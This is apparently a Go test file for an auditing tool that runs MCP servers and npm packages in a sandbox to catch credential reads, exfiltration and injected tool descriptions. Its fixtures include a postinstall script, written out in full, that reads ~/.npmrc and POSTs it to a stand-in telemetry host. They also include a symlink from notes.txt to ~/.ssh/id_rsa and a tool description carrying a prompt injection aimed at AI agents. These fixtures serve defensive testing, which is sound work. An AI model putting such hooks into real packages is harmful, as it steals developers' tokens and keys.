package audit_test

import (
	"archive/tar"
	"compress/gzip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/mcp-audit/mcp-audit/internal/audit"
	m "github.com/mcp-audit/mcp-audit/internal/manifest"
	"github.com/mcp-audit/mcp-audit/internal/policy"
)

func callsByName(man *m.Manifest) map[string]m.Call {
	out := map[string]m.Call{}
	for _, c := range man.Calls {
		if _, ok := out[c.Name]; !ok { // the first call; a tool's second is call:NAME#2
			out[c.Name] = c
		}
	}
	return out
}

// TestToolCallsAttributedAndRobust calls every fixture tool: the one that
// reads a key does so only in its own call, the one that hangs times out,
// the one that kills the server is followed by a restart, the huge answer
// and the stdout flood do not stop the audit, and the injected description
// is a finding.
func TestToolCallsAttributedAndRobust(t *testing.T) {
	t.Parallel()
	man := run(t, audit.Options{Target: fixture, Args: []string{"tools", "inject"}, Timing: audit.TimingOptions{CallTimeout: 3 * time.Second}})
	calls := callsByName(man)
	for name, want := range map[string]string{
		"echo": m.CallOK, "read_ssh": m.CallOK, "hang": m.CallTimeout, "crash": m.CallServerDied,
		"big": m.CallTooLarge, "flood": m.CallOK, "add": m.CallOK,
	} {
		if got := calls[name].Outcome; got != want {
			t.Errorf("call %s: outcome %q, want %q", name, got, want)
		}
	}
	if i := slices.IndexFunc(man.Calls, func(c m.Call) bool { return c.Name == "crash" }); i < 0 || i+1 >= len(man.Calls) || !man.Calls[i+1].Restarted {
		t.Errorf("the call after the crash must be marked restarted: %+v", man.Calls)
	}
	if calls["echo"].Phase != "call:echo" || string(calls["echo"].Args) != `{"text":"Quarterly report"}` || !calls["echo"].ArgsValid {
		t.Errorf("echo call record %+v", calls["echo"])
	}
	for _, p := range man.Phases {
		for _, h := range p.Canaries {
			if h.Canary == "file:~/.ssh/id_rsa" && p.Name != "call:read_ssh" && p.Name != "call:read_ssh#2" {
				t.Errorf("id_rsa read attributed to %s", p.Name)
			}
		}
	}
	rs := man.PhaseByName("call:read_ssh")
	if rs == nil || len(rs.Canaries) != 1 || rs.Canaries[0].How != "file-read" {
		t.Fatalf("call:read_ssh phase: %+v", rs)
	}
	if man.Outcome.Status != m.StatusOK {
		t.Errorf("outcome %+v", man.Outcome)
	}
	var injection bool
	for _, f := range policy.Evaluate(man, policy.Policy{}) {
		injection = injection || f.Kind == policy.KindTool && f.Subject == "tool add" && f.Severity == policy.High
		if f.Kind == policy.KindTool && f.Subject != "tool add" {
			t.Errorf("injection finding on an innocent tool: %+v", f)
		}
	}
	if !injection {
		t.Error("the injected description of tool add is not a finding")
	}
}

// TestInstallPhase audits a tarball whose postinstall reads ~/.npmrc and
// sends it out: the script runs in the sandbox, under the tracer, and its
// behavior lands in phase install, not in startup.
func TestInstallPhase(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	server, err := os.ReadFile(filepath.Join(fixture, "server.js"))
	if err != nil {
		t.Fatal(err)
	}
	tgz := filepath.Join(dir, "postinstall-fixture-1.0.0.tgz")
	f, _ := os.Create(tgz)
	gz := gzip.NewWriter(f)
	tw := tar.NewWriter(gz)
	for name, body := range map[string]string{
		"package/package.json": `{"name":"postinstall-fixture","version":"1.0.0","bin":{"postinstall-fixture":"server.js"},"scripts":{"postinstall":"node postinstall.js"}}`,
		"package/server.js":    string(server),
		"package/postinstall.js": `const fs = require('fs'), os = require('os'), https = require('https');
const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
const req = https.request('https://telemetry.fixture.example/install', { method: 'POST' }, (res) => res.resume());
req.on('error', () => {});
req.end(JSON.stringify({ npmrc }));
`,
	} {
		tw.WriteHeader(&tar.Header{Name: name, Mode: 0o755, Size: int64(len(body)), Typeflag: tar.TypeReg})
		tw.Write([]byte(body))
	}
	tw.Close()
	gz.Close()
	f.Close()

	man := run(t, audit.Options{Target: tgz})
	in := man.PhaseByName(m.PhaseInstall)
	if in == nil {
		t.Fatalf("no install phase; notes %v", man.Run.Notes)
	}
	hits := canaryHits(in)
	if _, ok := hits["file:~/.npmrc file-read ~/.npmrc"]; !ok {
		t.Errorf("postinstall's read of ~/.npmrc not in install: %v", keys(hits))
	}
	if _, ok := hits["file:~/.npmrc sent https POST telemetry.fixture.example/install"]; !ok {
		t.Errorf("postinstall's exfiltration not in install: %v", keys(hits))
	}
	var proc bool
	for _, p := range in.Processes {
		proc = proc || strings.Join(p.Argv, " ") == "node postinstall.js"
		if strings.Contains(strings.Join(p.Argv, " "), "npm") {
			t.Errorf("mcp-audit's own npm shows as package behavior: %+v", p)
		}
	}
	if !proc {
		t.Errorf("postinstall process not recorded: %+v", in.Processes)
	}
	if st := man.PhaseByName(m.PhaseStartup); st != nil && len(st.Canaries) > 0 {
		t.Errorf("install behavior leaked into startup: %+v", st.Canaries)
	}
	if man.Outcome.Status != m.StatusOK {
		t.Errorf("outcome %+v", man.Outcome)
	}
}

// TestRealServersExercised calls every tool, prompt and resource of real
// servers and checks per-call attribution.
func TestRealServersExercised(t *testing.T) {
	t.Parallel()
	t.Run("server-everything", func(t *testing.T) {
		man := run(t, audit.Options{Target: "npm:@modelcontextprotocol/server-everything", Timing: audit.TimingOptions{CallTimeout: 5 * time.Second}})
		tools := map[string]bool{}
		for _, tool := range man.Tools {
			tools[tool.Name] = true
		}
		made := 0
		for _, c := range man.Calls {
			if c.Kind == "tool" && c.Outcome != m.CallSkipped && !strings.Contains(c.Phase, "#") { // first calls only
				made++
			}
			if c.Kind == "tool" && man.PhaseByName(c.Phase) == nil {
				t.Errorf("no phase for call %s", c.Name)
			}
		}
		if made != len(tools) || made < 10 {
			t.Errorf("%d tools called of %d", made, len(tools))
		}
		// The sampling tool makes the server ask the client; it is declined.
		sp := man.PhaseByName("call:trigger-sampling-request")
		if sp == nil || len(sp.ServerRequests) == 0 || sp.ServerRequests[0].Method != "sampling/createMessage" || sp.ServerRequests[0].Answer != "declined" {
			t.Errorf("sampling request not recorded in its call: %+v", sp)
		}
		// get-env returns the environment, canaries included.
		if ge := man.PhaseByName("call:get-env"); ge == nil || len(ge.Canaries) == 0 || ge.Canaries[0].How != "mcp-output" {
			t.Errorf("get-env canary exposure not recorded: %+v", ge)
		}
	})
	t.Run("server-filesystem", func(t *testing.T) {
		man := run(t, audit.Options{Target: "npm:@modelcontextprotocol/server-filesystem", Args: []string{"{workspace}"}})
		wrote := false
		for _, p := range man.Phases {
			if !strings.HasPrefix(p.Name, "call:") {
				continue
			}
			for _, f := range p.Files {
				inside := strings.HasPrefix(f.Path, "<workspace>")
				// realpath() probes the ancestors of the allowed directory.
				ancestor := f.Access == m.AccessStat && (f.Path == "/" || f.Path == "/home" || f.Path == "~")
				if !inside && !ancestor {
					t.Errorf("%s touched %s (%s) outside the allowed directory", p.Name, f.Path, f.Access)
				}
				wrote = wrote || inside && f.Access == m.AccessWrite && f.Result == m.ResultOK
			}
		}
		if !wrote {
			t.Error("no write inside the workspace was recorded (write_file)")
		}
	})
	t.Run("server-memory", func(t *testing.T) {
		man := run(t, audit.Options{Target: "npm:@modelcontextprotocol/server-memory",
			Env: []string{"MEMORY_FILE_PATH={workspace}/memory.jsonl"}})
		ce := man.PhaseByName("call:create_entities")
		// It writes a temporary file and renames it over memory.jsonl.
		found := false
		for _, f := range ce.Files {
			found = found || f.Access == m.AccessRename && f.Target == "<workspace>/memory.jsonl" && f.Result == m.ResultOK &&
				f.Path == "<workspace>/memory.jsonl.*.tmp"
		}
		if !found {
			t.Errorf("create_entities' write of its memory file not in its call: %+v", ce)
		}
		if callsByName(man)["create_entities"].Outcome != m.CallOK {
			t.Errorf("create_entities: %+v", callsByName(man)["create_entities"])
		}
	})
}

// TestShippedSymlinkToCanary: a package that ships notes.txt as a symlink
// to ~/.ssh/id_rsa. No symlink is made at run time, so only the resolved
// path of the opened file (strace -yy) reveals the canary read.
func TestShippedSymlinkToCanary(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	for _, f := range []string{"server.js", "package.json"} {
		b, err := os.ReadFile(filepath.Join(fixture, f))
		if err != nil {
			t.Fatal(err)
		}
		os.WriteFile(filepath.Join(dir, f), b, 0o755)
	}
	if err := os.Symlink("/home/dev/.ssh/id_rsa", filepath.Join(dir, "notes.txt")); err != nil {
		t.Fatal(err)
	}
	man := run(t, audit.Options{Target: dir, Args: []string{"read-notes"}, Calls: audit.CallsNone})
	st := man.PhaseByName(m.PhaseStartup)
	if len(st.Canaries) != 1 || st.Canaries[0].Canary != "file:~/.ssh/id_rsa" || st.Canaries[0].Evidence != "<pkg>/notes.txt -> ~/.ssh/id_rsa" {
		t.Errorf("canary read through a shipped symlink: %+v", st.Canaries)
	}
}
